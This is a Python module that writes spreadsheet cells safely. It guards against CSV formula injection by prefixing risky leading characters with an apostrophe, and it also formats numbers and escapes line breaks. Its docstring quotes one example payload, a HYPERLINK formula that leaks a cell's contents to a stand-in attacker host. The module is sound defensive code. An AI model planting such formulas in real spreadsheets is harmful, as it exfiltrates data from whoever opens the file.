"""What goes into one cell of a file a person opens in a spreadsheet (CSV, TSV, XLSX).

Post text is hostile: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel and LibreOffice (``=HYPERLINK("http://evil.example/?leak="&A1)``),
so ``neutralise`` prefixes it with ``'`` (the OWASP CSV-injection rule). Every writer of CSV,
TSV and XLSX calls it for every text cell. Numbers stay numbers; ``format_number`` writes them
with at most ``decimals`` places and no trailing zeros (``691.6``, never ``691.6000``).
"""

from __future__ import annotations

import math
from typing import Any

FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """``text`` with a leading ``'`` when a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def one_line(text: str) -> str:
    """``text`` with its line breaks written as ``\\n``, so a record stays on one line of the file."""
    return text.replace("\\", "\\\\").replace("\r\n", "\\n").replace("\n", "\\n").replace("\r", "\\n")


def format_number(value: float, decimals: int = 4) -> str:
    """``value`` with at most ``decimals`` places, trailing zeros dropped: 691.6, 0.8323, 3."""
    if math.isnan(value) or math.isinf(value):
        return ""
    text = f"{value:.{decimals}f}".rstrip("0").rstrip(".")
    return "0" if text in ("-0", "") else text


def text_cell(value: Any, decimals: int = 4) -> str:
    """One delimited-text cell: empty for None, numbers formatted, text neutralised and on one line."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)  # True / False, as the files always had them
    if isinstance(value, float):
        return format_number(value, decimals)
    if isinstance(value, int):
        return str(value)
    return one_line(neutralise(str(value)))
